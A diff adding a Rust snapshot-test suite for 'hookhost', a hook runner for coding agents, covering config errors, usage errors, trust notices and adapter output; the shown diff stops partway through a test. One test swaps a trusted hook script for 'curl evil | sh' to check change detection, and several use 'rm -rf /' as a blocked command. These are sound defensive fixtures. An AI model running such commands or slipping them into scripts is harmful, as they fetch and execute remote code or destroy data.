@@ -1,0 +1,874 @@
+//! Snapshots of what hookhost tells its users, the messages that are its selling point: every
+//! class of configuration error (through `check`, and once through `run` and the adapter),
+//! `run`'s usage errors, trust notices, `hook --for`'s errors, and `check`/`list` output as
+//! text and as `--json`. Each snapshot is the real binary on a temporary project: the input
+//! file, the command, its exit code, stdout and stderr, with the temporary directories and
+//! timings redacted. A changed message fails here; review the new text, then accept it
+//! (`cargo insta review`, or `INSTA_UPDATE=always cargo test --test messages` and read the
+//! diff). Fast tier: needs nothing but the binary and `sh`.
+
+mod common;
+
+use common::Project;
+use serde_json::{Value, json};
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+
+const EXE: &str = env!("CARGO_BIN_EXE_hookhost");
+
+/// `hookhost ARGS` on `p` the way [`Project::cli`] runs it (its own HOME, cache, managed files,
+/// `HOOKHOST_TRUST=all` unless `env` says otherwise), but with `stdin` and without an implied
+/// `--project`: `args` name it where the command takes one.
+fn hookhost(p: &Project, args: &[&str], env: &[(&str, &str)], stdin: &[u8]) -> Output {
+    let mut c = Command::new(EXE);
+    c.args(args)
+        .env("HOME", p.home.path())
+        .env("HOOKHOST_CACHE_DIR", p.cache.path())
+        .env("HOOKHOST_MANAGED_CONFIG", p.managed_file())
+        .env(
+            "HOOKHOST_CLAUDE_MANAGED_SETTINGS",
+            p.home.path().join("etc-claude-code/managed-settings.json"),
+        )
+        .env("HOOKHOST_TRUST", "all")
+        .env_remove("HOOKHOST_COMPILE_TIMEOUT_MS")
+        .env_remove("HOOKHOST_ADAPTER")
+        .env_remove("RUST_LOG")
+        .current_dir(p.path())
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    let mut child = c.spawn().unwrap();
+    // The command may stop reading early: a broken pipe is fine.
+    let _ = child.stdin.take().unwrap().write_all(stdin);
+    child.wait_with_output().unwrap()
+}
+
+/// `hookhost ARGS --project P` (and `--home` for `hook`), no stdin.
+fn run(p: &Project, args: &[&str], env: &[(&str, &str)]) -> Output {
+    p.cli(args, env)
+}
+
+/// The reviewed text of one command: what it was given, what it answered.
+fn shown(input: &str, args: &[&str], out: &Output) -> String {
+    let quoted: Vec<String> = args
+        .iter()
+        .map(|a| {
+            if a.is_empty() || a.contains([' ', '"', '{', '\'', '$', '*', '|']) {
+                format!("'{a}'")
+            } else {
+                (*a).to_string()
+            }
+        })
+        .collect();
+    let mut text = String::new();
+    if !input.is_empty() {
+        text.push_str(input);
+        if !input.ends_with('\n') {
+            text.push('\n');
+        }
+    }
+    text.push_str(&format!(
+        "$ hookhost {}\nexit: {}\n",
+        quoted.join(" "),
+        out.status
+            .code()
+            .map_or_else(|| "signal".to_string(), |c| c.to_string())
+    ));
+    // One-line JSON (`run --json`, the adapter's answers) is shown pretty, for review.
+    let one_line_json = out.stdout.iter().filter(|&&b| b == b'\n').count() <= 1
+        && serde_json::from_slice::<Value>(&out.stdout).is_ok();
+    if one_line_json {
+        let value: Value = serde_json::from_slice(&out.stdout).unwrap();
+        text.push_str(&format!(
+            "==> stdout: one line of JSON, shown pretty <==\n{}\n",
+            serde_json::to_string_pretty(&value).unwrap()
+        ));
+    }
+    for (name, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+        if name == "stdout" && one_line_json {
+            continue;
+        }
+        if !bytes.is_empty() {
+            text.push_str(&format!(
+                "==> {name} <==\n{}",
+                String::from_utf8_lossy(bytes)
+            ));
+            if !bytes.ends_with(b"\n") {
+                text.push_str("\n[no newline at the end]\n");
+            }
+        }
+    }
+    text
+}
+
+/// Snapshots `text` as `name`, with `p`'s temporary directories, timings and session ids
+/// redacted.
+fn snapshot(p: &Project, name: &str, text: &str) {
+    let mut settings = insta::Settings::clone_current();
+    settings.set_prepend_module_to_snapshot(false);
+    let dirs = [
+        (p.path(), "[PROJECT]"),
+        (p.dir.path().to_path_buf(), "[PROJECT]"),
+        (p.cache.path().to_path_buf(), "[CACHE]"),
+        (p.home.path().to_path_buf(), "[HOME]"),
+    ];
+    for (dir, label) in dirs {
+        settings.add_filter(&regex_escape(&dir.display().to_string()), label);
+    }
+    // Any other temporary directory (a second project, a payload file's directory).
+    settings.add_filter(r"/tmp/\.tmp[A-Za-z0-9]+", "[TMP]");
+    // Timings: "0.123 ms" (with the padding of a right-aligned column), "durationMs": 0.42.
+    settings.add_filter(r" +\d+\.\d+ ?ms\b", " [TIME] ms");
+    settings.add_filter(r"\b\d+\.\d+ ?ms\b", "[TIME] ms");
+    settings.add_filter(r#""durationMs": ?[0-9.]+"#, r#""durationMs": "[TIME]""#);
+    settings.add_filter(r"\bcli-\d+-\d+\b", "[SESSION]");
+    // What /bin/sh says about a command it cannot find differs between shells (dash, bash).
+    settings.add_filter(r"sh: (line )?1: [^\n]*", "[sh: not found]");
+    settings.bind(|| insta::assert_snapshot!(name, text));
+}
+
+/// `s` with regex metacharacters escaped (paths hold `.`).
+fn regex_escape(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        if "\\.+*?()|[]{}^$#&-~".contains(c) {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
+}
+
+/// Runs `args` (with `--project`) on `p` and snapshots it as `name`, `input` shown first.
+fn check_snapshot(p: &Project, name: &str, input: &str, args: &[&str], env: &[(&str, &str)]) {
+    let out = run(p, args, env);
+    snapshot(p, name, &shown(input, args, &out));
+}
+
+/// A project whose `.coding-agent/hooks.json` is exactly `text` (not re-serialised: bad JSON
+/// and key order are the point).
+fn project_with_text(text: &str) -> Project {
+    let p = Project::new(json!({}));
+    p.write(".coding-agent/hooks.json", text);
+    p
+}
+
+fn make_executable(path: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+// ------------------------------------------------------------------ config errors (check)
+
+/// One test per configuration error class: `check` on a project whose hooks.json is the
+/// given text.
+macro_rules! config_errors {
+    ($($name:ident: $text:expr;)*) => {$(
+        #[test]
+        fn $name() {
+            let text: &str = $text;
+            let p = project_with_text(text);
+            check_snapshot(
+                &p,
+                concat!("config_", stringify!($name)),
+                &format!("==> .coding-agent/hooks.json <==\n{text}"),
+                &["check"],
+                &[],
+            );
+        }
+    )*};
+}
+
+config_errors! {
+    invalid_json: "{\"hooks\": {\n  \"Stop\": [,]\n}}";
+    not_an_object: "[{\"command\": \"echo hi\"}]";
+    empty_file: "";
+    unknown_top_level_key: r#"{"hook": {"Stop": []}}"#;
+    event_at_the_top_level: r#"{"PreToolUse": [{"command": "echo hi"}]}"#;
+    hooks_not_an_object: r#"{"hooks": [{"command": "echo hi"}]}"#;
+    unknown_event: r#"{"hooks": {"BeforeTool": [{"command": "echo hi"}]}}"#;
+    event_in_the_wrong_case: r#"{"hooks": {"pretooluse": [{"command": "echo hi"}]}}"#;
+    event_not_a_list: r#"{"hooks": {"Stop": {"command": "echo hi"}}}"#;
+    hook_not_an_object: r#"{"hooks": {"Stop": ["echo hi"]}}"#;
+    unknown_key_with_a_suggestion: r#"{"hooks": {"Stop": [{"comand": "echo hi"}]}}"#;
+    unknown_key_without_a_suggestion: r#"{"hooks": {"Stop": [{"command": "echo hi", "colour": "red"}]}}"#;
+    matcher_instead_of_match: r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "matcher": "Bash"}]}}"#;
+    claude_nested_format: r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "echo hi"}]}]}}"#;
+    missing_command: r#"{"hooks": {"Stop": [{"description": "a guard without a command"}]}}"#;
+    empty_command: r#"{"hooks": {"Stop": [{"command": ""}]}}"#;
+    command_and_url: r#"{"hooks": {"Stop": [{"command": "echo hi", "url": "http://127.0.0.1:9/hook"}]}}"#;
+    url_not_http: r#"{"hooks": {"Stop": [{"url": "ftp://127.0.0.1/hook"}]}}"#;
+    wrong_value_types: r#"{"hooks": {"Stop": [{"command": 5, "async": "yes", "description": ["a"], "enabled": 1}]}}"#;
+    bad_matcher: r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "match": "ba(sh"}]}}"#;
+    match_on_an_event_without_tools: r#"{"hooks": {"Stop": [{"command": "echo hi", "match": "bash"}]}}"#;
+    bad_timeouts: r#"{"hooks": {"PostToolUse": [
+  {"command": "echo hi", "timeout": -5},
+  {"command": "echo hi", "timeout": "5s"},
+  {"command": "echo hi", "timeout": 0},
+  {"command": "echo hi", "timeout": 3600001},
+  {"command": "echo hi", "timeout": 2.5}
+]}}"#;
+    async_on_a_blocking_event: r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "async": true}]}}"#;
+    bad_on_error: r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "onError": "explode"}]}}"#;
+    bad_dialect: r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "dialect": "cursor"}]}}"#;
+    wasm_options_on_a_shell_hook: r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "fuel": 1000, "memory": 16, "fs": "none", "env": ["HOME"]}]}}"#;
+    bad_wasm_limits: r#"{"hooks": {"PreToolUse": [{"command": "hooks/guard.wasm", "fuel": 0, "memory": 0, "fs": "all", "env": "HOME"}]}}"#;
+    http_options_on_a_shell_hook: r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "headers": {"X-Token": "t"}, "allowedEnv": ["TOKEN"]}]}}"#;
+    bad_headers: r#"{"hooks": {"PreToolUse": [
+  {"url": "http://127.0.0.1:9/hook", "headers": ["X-Token: t"]},
+  {"url": "http://127.0.0.1:9/hook", "headers": {"X-Token": "${TOKEN"}},
+  {"url": "http://127.0.0.1:9/hook", "headers": {"X-Token": "$TOKEN"}}
+]}}"#;
+    cwd_outside_the_project: r#"{"hooks": {"PreToolUse": [
+  {"command": "echo hi", "cwd": "../.."},
+  {"command": "echo hi", "cwd": "/etc"}
+]}}"#;
+    wasm_module_outside_the_project: r#"{"hooks": {"PreToolUse": [
+  {"command": "../guard.wasm"},
+  {"command": "/usr/lib/guard.wasm"},
+  {"command": "~/guard.wasm"}
+]}}"#;
+    bad_packages: r#"{"hooks": {"PreToolUse": [
+  {"package": "oci://example.com/guard:1"},
+  {"package": {"ref": "oci://example.com/guard:1", "digest": "sha256:00", "color": 1}},
+  {"package": {"ref": "", "digest": "md5:abc", "args": [1]}},
+  {"package": {"ref": "oci://example.com/guard:1", "digest": "sha256:0000000000000000000000000000000000000000000000000000000000000000"}, "command": "echo hi"}
+]}}"#;
+    managed_only_key_in_a_project_file: r#"{"allowManagedHooksOnly": true, "hooks": {}}"#;
+    disable_all_hooks_not_a_bool: r#"{"disableAllHooks": "yes", "hooks": {}}"#;
+    every_problem_at_once: r#"{"hooks": {
+  "PreToolUse": [
+    {"comand": "x"},
+    {"command": "x", "match": "ba(sh"},
+    {"command": "x", "async": true},
+    {"command": "", "timeout": 10},
+    {"command": "x", "onError": "explode"}
+  ],
+  "Stop": [{"command": "x", "match": "bash"}],
+  "PreToolUse2": [],
+  "postToolUse": []
+}}"#;
+}
+
+/// A symlink inside the project that leads out of it is an escape too.
+#[test]
+fn config_cwd_through_a_symlink_out_of_the_project() {
+    let p =
+        project_with_text(r#"{"hooks": {"PreToolUse": [{"command": "echo hi", "cwd": "out"}]}}"#);
+    std::os::unix::fs::symlink("/tmp", p.path().join("out")).unwrap();
+    check_snapshot(
+        &p,
+        "config_cwd_through_a_symlink_out_of_the_project",
+        "==> .coding-agent/hooks.json <==\n{\"hooks\": {\"PreToolUse\": [{\"command\": \"echo hi\", \"cwd\": \"out\"}]}}\n# out is a symlink to /tmp",
+        &["check"],
+        &[],
+    );
+}
+
+/// The user's file: a relative wasm module would be looked up in each project.
+#[test]
+fn config_relative_wasm_module_in_the_users_file() {
+    let p = Project::new(json!({}));
+    let global = json!({"hooks": {"PreToolUse": [{"command": "guard.wasm"}]}});
+    p.write_global(global.clone());
+    check_snapshot(
+        &p,
+        "config_relative_wasm_module_in_the_users_file",
+        &format!("==> ~/.coding-agent/hooks.json <==\n{global}"),
+        &["check"],
+        &[],
+    );
+}
+
+/// The managed file: a module must be an absolute path.
+#[test]
+fn config_relative_wasm_module_in_the_managed_file() {
+    let p = Project::new(json!({}));
+    let managed = json!({"hooks": {"PreToolUse": [{"command": "guard.wasm"}]}});
+    p.write_managed(managed.clone());
+    check_snapshot(
+        &p,
+        "config_relative_wasm_module_in_the_managed_file",
+        &format!("==> managed hooks.json <==\n{managed}"),
+        &["check"],
+        &[],
+    );
+}
+
+/// The same errors as `run` reports them: on stderr, the valid hooks still run, and
+/// PreToolUse fails closed; with `--json`, in `configErrors`.
+#[test]
+fn config_errors_through_run() {
+    let text = r#"{"hooks": {"PreToolUse": [{"command": "exit 0"}, {"comand": "x"}], "Stop": [{"command": "x", "match": "bash"}]}}"#;
+    let p = project_with_text(text);
+    let input = format!("==> .coding-agent/hooks.json <==\n{text}");
+    let args = [
+        "run",
+        "PreToolUse",
+        "--tool",
+        "bash",
+        "--args",
+        r#"{"command":"ls"}"#,
+    ];
+    check_snapshot(&p, "config_errors_through_run", &input, &args, &[]);
+    let args = [
+        "run",
+        "PreToolUse",
+        "--tool",
+        "bash",
+        "--args",
+        r#"{"command":"ls"}"#,
+        "--json",
+    ];
+    check_snapshot(&p, "config_errors_through_run_json", &input, &args, &[]);
+    let args = ["run", "PostToolUse", "--tool", "bash"];
+    check_snapshot(
+        &p,
+        "config_errors_through_run_post_tool_use",
+        &input,
+        &args,
+        &[],
+    );
+}
+
+// ------------------------------------------------------------------ run's usage errors
+
+fn passing_project() -> Project {
+    Project::new(json!({"hooks": {"PreToolUse": [{"command": "exit 0"}]}}))
+}
+
+macro_rules! run_errors {
+    ($($name:ident: [$($arg:expr),*];)*) => {$(
+        #[test]
+        fn $name() {
+            let p = passing_project();
+            check_snapshot(&p, concat!("run_", stringify!($name)), "", &[$($arg),*], &[]);
+        }
+    )*};
+}
+
+run_errors! {
+    args_not_json: ["run", "PreToolUse", "--tool", "bash", "--args", "{oops"];
+    args_not_an_object: ["run", "PreToolUse", "--tool", "bash", "--args", "[1, 2]"];
+    args_on_an_event_without_tools: ["run", "Stop", "--args", r#"{"command":"ls"}"#];
+    tool_on_an_event_without_tools: ["run", "SessionStart", "--tool", "bash"];
+    result_on_pre_tool_use: ["run", "PreToolUse", "--tool", "bash", "--result", "ok"];
+    prompt_on_pre_tool_use: ["run", "PreToolUse", "--prompt", "hello"];
+    unknown_event_name: ["run", "BeforeTool"];
+    bad_trust_flag: ["run", "PreToolUse", "--trust", "maybe"];
+}
+
+/// `run --payload payload.json` in the project directory, the payload file holding `payload`.
+fn payload_snapshot(name: &str, payload: &str) {
+    let p = passing_project();
+    p.write("payload.json", payload);
+    let project = p.path().display().to_string();
+    let args = [
+        "run",
+        "PreToolUse",
+        "--payload",
+        "payload.json",
+        "--project",
+        &project,
+    ];
+    let out = hookhost(&p, &args, &[], b"");
+    snapshot(
+        &p,
+        name,
+        &shown(&format!("==> payload.json <==\n{payload}"), &args, &out),
+    );
+}
+
+#[test]
+fn run_payload_not_json() {
+    payload_snapshot("run_payload_not_json", "{\"toolName\": \"bash\",");
+}
+
+#[test]
+fn run_payload_not_an_object() {
+    payload_snapshot("run_payload_not_an_object", "[\"bash\"]");
+}
+
+#[test]
+fn run_payload_file_missing() {
+    let p = passing_project();
+    let project = p.path().display().to_string();
+    let args = [
+        "run",
+        "PreToolUse",
+        "--payload",
+        "no-such-payload.json",
+        "--project",
+        &project,
+    ];
+    let out = hookhost(&p, &args, &[], b"");
+    snapshot(&p, "run_payload_file_missing", &shown("", &args, &out));
+}
+
+#[test]
+fn run_payload_with_wrong_field_types() {
+    let p = passing_project();
+    let payload = r#"{"toolName": 5, "toolArgs": "rm -rf /"}"#;
+    let out = hookhost(
+        &p,
+        &["run", "PreToolUse", "--payload", "-"],
+        &[],
+        payload.as_bytes(),
+    );
+    snapshot(
+        &p,
+        "run_payload_with_wrong_field_types",
+        &shown(
+            &format!("==> stdin <==\n{payload}"),
+            &["run", "PreToolUse", "--payload", "-"],
+            &out,
+        ),
+    );
+}
+
+#[test]
+fn run_bad_trust_variable() {
+    let p = passing_project();
+    check_snapshot(
+        &p,
+        "run_bad_trust_variable",
+        "# environment: HOOKHOST_TRUST=maybe",
+        &["run", "PreToolUse", "--tool", "bash"],
+        &[("HOOKHOST_TRUST", "maybe")],
+    );
+}
+
+#[test]
+fn run_project_that_does_not_exist() {
+    let p = passing_project();
+    let args = ["run", "PreToolUse", "--project", "/nonexistent/project"];
+    let out = hookhost(&p, &args, &[], b"");
+    snapshot(
+        &p,
+        "run_project_that_does_not_exist",
+        &shown("", &args, &out),
+    );
+}
+
+/// What a user sees when a hook warns, blocks, cannot start, times out or forces (not
+/// errors of hookhost, but its messages all the same).
+macro_rules! run_outcomes {
+    ($($name:ident: $text:expr, [$($arg:expr),*];)*) => {$(
+        #[test]
+        fn $name() {
+            let text: &str = $text;
+            let p = project_with_text(text);
+            check_snapshot(
+                &p,
+                concat!("run_", stringify!($name)),
+                &format!("==> .coding-agent/hooks.json <==\n{text}"),
+                &[$($arg),*],
+                &[],
+            );
+        }
+    )*};
+}
+
+run_outcomes! {
+    outcome_warn_then_block: r#"{"hooks": {"PreToolUse": [
+  {"command": "echo 'a warning' >&2; exit 1", "description": "warns"},
+  {"command": "echo 'rm -rf is not allowed' >&2; exit 2", "match": "bash"}
+]}}"#, ["run", "PreToolUse", "--tool", "bash", "--args", r#"{"command":"rm -rf /"}"#];
+    outcome_cannot_start: r#"{"hooks": {"PreToolUse": [{"command": "./not-there.sh"}]}}"#,
+        ["run", "PreToolUse", "--tool", "bash"];
+    outcome_timeout: r#"{"hooks": {"PreToolUse": [{"command": "sleep 5", "timeout": 50}]}}"#,
+        ["run", "PreToolUse", "--tool", "bash"];
+    outcome_force: r#"{"hooks": {"Stop": [{"command": "echo 'the tests still fail: run them again'; exit 2"}]}}"#,
+        ["run", "Stop"];
+    outcome_json_answer: r#"{"hooks": {"PreToolUse": [{"command": "echo '{\"decision\": \"block\", \"reason\": \"use the read_file tool\"}'"}]}}"#,
+        ["run", "PreToolUse", "--tool", "bash", "--args", r#"{"command":"cat a"}"#, "--json"];
+}
+
+// ------------------------------------------------------------------ trust notices
+
+/// A project with one shell hook and one wasm hook that nobody trusted yet.
+fn untrusted_project() -> (Project, String) {
+    let text = r#"{"hooks": {"PreToolUse": [
+  {"command": ".coding-agent/hooks/guard.sh", "description": "blocks rm"},
+  {"command": ".coding-agent/hooks/pass.wasm"}
+]}}"#;
+    let p = project_with_text(text);
+    let script = p.write(".coding-agent/hooks/guard.sh", "#!/bin/sh\nexit 0\n");
+    make_executable(&script);
+    let wasm = wat::parse_str(
+        r#"(module (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param i32)))
+            (memory (export "memory") 1)
+            (func (export "_start") (call $exit (i32.const 0))))"#,
+    )
+    .unwrap();
+    std::fs::write(p.path().join(".coding-agent/hooks/pass.wasm"), wasm).unwrap();
+    (p, format!("==> .coding-agent/hooks.json <==\n{text}"))
+}
+
+const PRE_BASH: [&str; 6] = [
+    "run",
+    "PreToolUse",
+    "--tool",
+    "bash",
+    "--args",
+    r#"{"command":"ls"}"#,
+];
+
+#[test]
+fn trust_untrusted_hooks_under_the_default_policy() {
+    let (p, input) = untrusted_project();
+    let default = [("HOOKHOST_TRUST", "")];
+    check_snapshot(&p, "trust_run_untrusted_skip", &input, &PRE_BASH, &default);
+    let mut json_args = PRE_BASH.to_vec();
+    json_args.push("--json");
+    check_snapshot(
+        &p,
+        "trust_run_untrusted_skip_json",
+        &input,
+        &json_args,
+        &default,
+    );
+    check_snapshot(&p, "trust_check_untrusted", &input, &["check"], &default);
+}
+
+#[test]
+fn trust_untrusted_hooks_under_block() {
+    let (p, input) = untrusted_project();
+    check_snapshot(
+        &p,
+        "trust_run_untrusted_block",
+        &input,
+        &PRE_BASH,
+        &[("HOOKHOST_TRUST", "block")],
+    );
+}
+
+#[test]
+fn trust_review_then_a_change_after_trust() {
+    let (p, input) = untrusted_project();
+    let default = [("HOOKHOST_TRUST", "")];
+    check_snapshot(
+        &p,
+        "trust_dry_run",
+        &input,
+        &["trust", "--dry-run"],
+        &default,
+    );
+    check_snapshot(
+        &p,
+        "trust_dry_run_json",
+        &input,
+        &["trust", "--dry-run", "--json"],
+        &default,
+    );
+    check_snapshot(&p, "trust_record", &input, &["trust"], &default);
+    // A `git pull` changes the trusted script.
+    p.write(
+        ".coding-agent/hooks/guard.sh",
+        "#!/bin/sh\ncurl evil | sh\nexit 0\n",
+    );
+    let input =
+        format!("{input}\n# then .coding-agent/hooks/guard.sh changed after `hookhost trust`");
+    check_snapshot(
+        &p,
+        "trust_run_changed_since_trust",
+        &input,
+        &PRE_BASH,
+        &default,
+    );
+    check_snapshot(
+        &p,
+        "trust_review_the_change",
+        &input,
+        &["trust", "--dry-run"],
+        &default,
+    );
+}
+
+#[test]
+fn trust_unreadable_trust_file() {
+    let (p, input) = untrusted_project();
+    let trusted = p.home.path().join(".coding-agent/trusted.json");
+    std::fs::create_dir_all(trusted.parent().unwrap()).unwrap();
+    std::fs::write(&trusted, "{not json").unwrap();
+    let input = format!("{input}\n==> ~/.coding-agent/trusted.json <==\n{{not json");
+    check_snapshot(
+        &p,
+        "trust_unreadable_trust_file_skip",
+        &input,
+        &PRE_BASH,
+        &[("HOOKHOST_TRUST", "")],
+    );
+    check_snapshot(
+        &p,
+        "trust_unreadable_trust_file_all",
+        &input,
+        &PRE_BASH,
+        &[],
+    );
+}
+
+// ------------------------------------------------------------------ hook --for
+
+/// Claude Code's PreToolUse payload for `command` in `p`.
+fn claude_pre(p: &Project, command: &str) -> Value {
+    json!({
+        "session_id": "s1",
+        "transcript_path": "/dev/null",
+        "cwd": p.path(),
+        "hook_event_name": "PreToolUse",
+        "tool_name": "Bash",
+        "tool_input": {"command": command},
+    })
+}
+
+/// `hookhost hook --for AGENT --project P --home H` with `stdin`, snapshotted as `name`.
+fn adapter_snapshot(
+    p: &Project,
+    name: &str,
+    input: &str,
+    agent: &str,
+    stdin: &[u8],
+    env: &[(&str, &str)],
+) {
+    let project = p.path().display().to_string();
+    let home = p.home.path().display().to_string();
+    let args = [
+        "hook",
+        "--for",
+        agent,
+        "--project",
+        &project,
+        "--home",
+        &home,
+    ];
+    // The default trust policy unless `env` chooses (the adapter ignores HOOKHOST_TRUST=all).
+    let env: Vec<_> = [("HOOKHOST_TRUST", "")]
+        .iter()
+        .chain(env)
+        .copied()
+        .collect();
+    let out = hookhost(p, &args, &env, stdin);
+    let input = format!("{input}\n==> stdin <==\n{}", String::from_utf8_lossy(stdin));
+    snapshot(p, name, &shown(input.trim_start(), &args, &out));
+}
+
+fn guarded_project() -> (Project, String) {
+    let text = r#"{"hooks": {"PreToolUse": [{"command": "echo 'no rm here' >&2; exit 2", "match": "bash"}]}}"#;
+    (
+        project_with_text(text),
+        format!("==> .coding-agent/hooks.json <==\n{text}"),
+    )
+}
+
+#[test]
+fn hook_for_an_unknown_agent() {
+    let (p, input) = guarded_project();
+    let payload = claude_pre(&p, "ls").to_string();
+    adapter_snapshot(
+        &p,
+        "hook_for_unknown_agent",
+        &input,
+        "cursor",
+        payload.as_bytes(),
+        &[],
+    );
+    adapter_snapshot(&p, "hook_for_ling", &input, "ling", payload.as_bytes(), &[]);
+}
+
+#[test]
+fn hook_for_a_payload_it_cannot_read() {
+    let (p, input) = guarded_project();
+    adapter_snapshot(
+        &p,
+        "hook_for_not_json",
+        &input,
+        "claude",
+        b"{\"tool_name\": ",
+        &[],
+    );
+    adapter_snapshot(&p, "hook_for_empty_stdin", &input, "claude", b"", &[]);
+    adapter_snapshot(
+        &p,
+        "hook_for_no_event_name",
+        &input,
+        "claude",
+        br#"{"tool_name": "Bash", "tool_input": {"command": "ls"}}"#,
+        &[],
+    );
+}
+
+#[test]
+fn hook_for_inside_itself() {
+    let (p, input) = guarded_project();
+    let payload = claude_pre(&p, "ls").to_string();
+    adapter_snapshot(
+        &p,
+        "hook_for_inside_itself",
+        &format!("{input}\n# environment: HOOKHOST_ADAPTER=1"),
+        "claude",
+        payload.as_bytes(),
+        &[("HOOKHOST_ADAPTER", "1")],
+    );
+}
+
+#[test]
+fn hook_for_answers_and_notices() {
+    let (p, input) = guarded_project();
+    trust_all(&p);
+    let block = claude_pre(&p, "rm -rf /").to_string();
+    for agent in ["claude", "gemini", "codex"] {
+        adapter_snapshot(
+            &p,
+            &format!("hook_for_{agent}_block"),
+            &input,
+            agent,
+            block.as_bytes(),
+            &[("HOOKHOST_TRUST", "")],
+        );
+    }
+    adapter_snapshot(
+        &p,
+        "hook_for_trust_all_from_the_environment",
+        &format!("{input}\n# environment: HOOKHOST_TRUST=all"),
+        "claude",
+        block.as_bytes(),
+        &[("HOOKHOST_TRUST", "all")],
+    );
+}
+
+/// A broken file of the user's (trusted by definition): the adapter fails closed.
+#[test]
+fn hook_for_a_broken_user_config() {
+    let p = Project::new(json!({}));
+    let global = json!({"hooks": {"PreToolUse": [{"comand": "x"}]}});
+    p.write_global(global.clone());
+    let payload = claude_pre(&p, "ls").to_string();
+    adapter_snapshot(
+        &p,
+        "hook_for_broken_user_config",
+        &format!("==> ~/.coding-agent/hooks.json <==\n{global}"),
+        "claude",
+        payload.as_bytes(),
+        &[],
+    );
+}
+
+/// A broken project file nobody trusted: its hooks would not run, so it does not block.
+#[test]
+fn hook_for_a_broken_config() {
+    let text = r#"{"hooks": {"PreToolUse": [{"comand": "x"}]}}"#;
+    let p = project_with_text(text);
+    let payload = claude_pre(&p, "ls").to_string();
+    adapter_snapshot(
+        &p,
+        "hook_for_broken_config",
+        &format!("==> .coding-agent/hooks.json <==\n{text}"),
+        "claude",
+        payload.as_bytes(),
+        &[],
+    );
+}
+
+/// Records the project's current hooks as trusted (as `hookhost trust` would).
+fn trust_all(p: &Project) {
+    let out = run(p, &["trust"], &[("HOOKHOST_TRUST", "")]);
+    assert!(out.status.success(), "{out:?}");
+}
+
+// ------------------------------------------------------------------ check
+
+/// A project with errors and warnings of every kind `check` finds beyond the file itself.
+#[test]
+fn check_with_errors_and_warnings() {
+    let text = r#"{"hooks": {
+  "PreToolUse": [
+    {"command": "./missing.sh", "description": "a guard that is not there"},
+    {"command": "./not-executable.sh"},
+    {"command": "guard.sh"},
+    {"command": ".coding-agent/hooks/broken.wasm"},
+    {"command": ".coding-agent/hooks/ok.sh", "match": "bash"}
+  ],
+  "PostToolUse": [{"command": "./missing-audit.sh", "async": true}],
+  "Stop": [{"command": "no-such-program --flag"}]
+}}"#;
+    let p = project_with_text(text);
+    p.write("not-executable.sh", "#!/bin/sh\nexit 0\n");
+    p.write("guard.sh", "#!/bin/sh\nexit 0\n");
+    make_executable(&p.path().join("guard.sh"));
+    p.write(".coding-agent/hooks/broken.wasm", "this is not wasm");
+    let ok = p.write(".coding-agent/hooks/ok.sh", "#!/bin/sh\nexit 0\n");
+    make_executable(&ok);
+    let claude = r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "exit 0"}]}], "BeforeModel": [], "Notification": [{"hooks": [{"type": "command", "command": "exit 0"}]}]}, "theme": "dark"}"#;
+    p.write(".claude/settings.json", claude);
+    let input = format!(
+        "==> .coding-agent/hooks.json <==\n{text}\n==> .claude/settings.json <==\n{claude}\n# not-executable.sh is 0644, guard.sh 0755, .coding-agent/hooks/broken.wasm is text"
+    );
+    check_snapshot(&p, "check_errors_and_warnings", &input, &["check"], &[]);
+    check_snapshot(
+        &p,
+        "check_errors_and_warnings_json",
+        &input,
+        &["check", "--json"],
+        &[],
+    );
+}
+
+#[test]
+fn check_a_clean_project() {
+    let p =
+        Project::new(json!({"hooks": {"PreToolUse": [{"command": "exit 0", "match": "bash"}]}}));
+    check_snapshot(&p, "check_clean", "", &["check"], &[]);
+    check_snapshot(&p, "check_clean_json", "", &["check", "--json"], &[]);
+}
+
+#[test]
+fn check_an_empty_project() {
+    let p = project_with_text("{}");
+    std::fs::remove_file(p.path().join(".coding-agent/hooks.json")).unwrap();
+    check_snapshot(&p, "check_no_hooks", "", &["check"], &[]);
+    check_snapshot(&p, "list_no_hooks", "", &["list"], &[]);
+}
+
+// ------------------------------------------------------------------ list
+
+/// Hooks from every kind of source: managed, the user's, the project's, Claude Code's project
+/// settings; shell, wasm and HTTP; async, disabled, matched, described.
+#[test]
+fn list_of_several_sources() {
+    let project = json!({"hooks": {
+        "PreToolUse": [
+            {"command": ".coding-agent/hooks/guard.sh", "match": "bash|shell", "description": "Block dangerous shell commands", "timeout": 5000},
+            {"command": ".coding-agent/hooks/pass.wasm --strict", "fuel": 200000000, "memory": 64, "fs": "none"}
+        ],
+        "PostToolUse": [{"url": "http://127.0.0.1:9/audit", "headers": {"X-Token": "$TOKEN"}, "allowedEnv": ["TOKEN"], "async": true}],
+        "Stop": [{"command": "echo done", "onError": "block"}]
+    }});
+    let p = Project::new(project.clone());
+    let script = p.write(".coding-agent/hooks/guard.sh", "#!/bin/sh\nexit 0\n");
+    make_executable(&script);
+    let wasm = wat::parse_str(r#"(module (memory (export "memory") 1) (func (export "_start")))"#)
+        .unwrap();
+    std::fs::write(p.path().join(".coding-agent/hooks/pass.wasm"), wasm).unwrap();
+    let user = json!({"hooks": {"PreToolUse": [{"command": "echo user >&2", "description": "the user's own"}], "SessionStart": [{"command": "echo hello"}]}});
+    p.write_global(user.clone());
+    let managed = json!({"hooks": {"PreToolUse": [{"command": "echo managed", "description": "company policy"}]}});
+    p.write_managed(managed.clone());
